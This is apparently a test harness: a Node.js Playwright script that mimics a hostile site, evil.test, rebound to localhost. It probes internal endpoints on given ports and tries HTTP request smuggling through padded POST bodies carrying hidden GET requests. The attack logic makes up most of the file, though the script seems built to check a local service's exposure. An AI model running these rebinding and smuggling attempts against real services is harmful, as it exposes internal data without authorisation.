// A web site that has pointed its own name at this machine: node rebinding.mjs PORT..., the name is evil.test.
// Prints JSON: for each port what the site's script could read, one entry for each thing it tried.
//
// The script runs in whatever the listener itself answers under that name, without this answer's content policy: for the
// browser it is a page of the site, and what it fetches has the site's origin.
import { createRequire } from "node:module";
import path from "node:path";

const { chromium } = createRequire(import.meta.url)(path.join(process.env.RCML_DEPS, "playwright-core-1.65"));

// Runs in the site's page. Smuggled bodies are followed by plain questions: a second answer would come to one of these.
async function attack() {
  const hidden = (target) => `GET ${target} HTTP/1.1\r\nHost: localhost\r\n\r\n`;
  const inner = hidden("/api/kpis") + hidden("/metrics") + hidden("/api/events");
  const tries = [
    ["GET /api/events", "/api/events", {}],
    ["GET /api/kpis", "/api/kpis", {}],
    ["GET /metrics", "/metrics", {}],
    ["GET /healthz", "/healthz", {}],
    ["GET /", "/", {}],
  ];
  for (const target of ["/healthz", "/", "/login", "/nothing"]) {
    tries.push([`POST ${target} with a hidden request`, target, { method: "POST", body: inner, headers: { "Content-Type": "text/plain" } }]);
    tries.push([`POST ${target} with hidden requests behind padding`, target, { method: "POST", body: "x".repeat(20_000) + "\r\n\r\n" + inner }]);
    tries.push([`GET ${target} after it`, target, { cache: "no-store" }]);
  }
  const seen = [];
  for (const [name, target, options] of tries) {
    try {
      const answer = await fetch(target, options);
      seen.push({ name, status: answer.status, text: (await answer.text()).slice(0, 20_000) });
    } catch (error) {
      seen.push({ name, status: 0, text: String(error) });
    }
  }
  return seen;
}

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
  args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run", "--no-proxy-server", "--host-resolver-rules=MAP evil.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"],
});
try {
  const context = await browser.newContext({ bypassCSP: true });
  const seen = {};
  for (const port of process.argv.slice(2)) {
    const page = await context.newPage();
    await page.goto(`http://evil.test:${port}/healthz`);
    seen[port] = await page.evaluate(attack);
  }
  console.log(JSON.stringify(seen));
} finally {
  await browser.close();
}
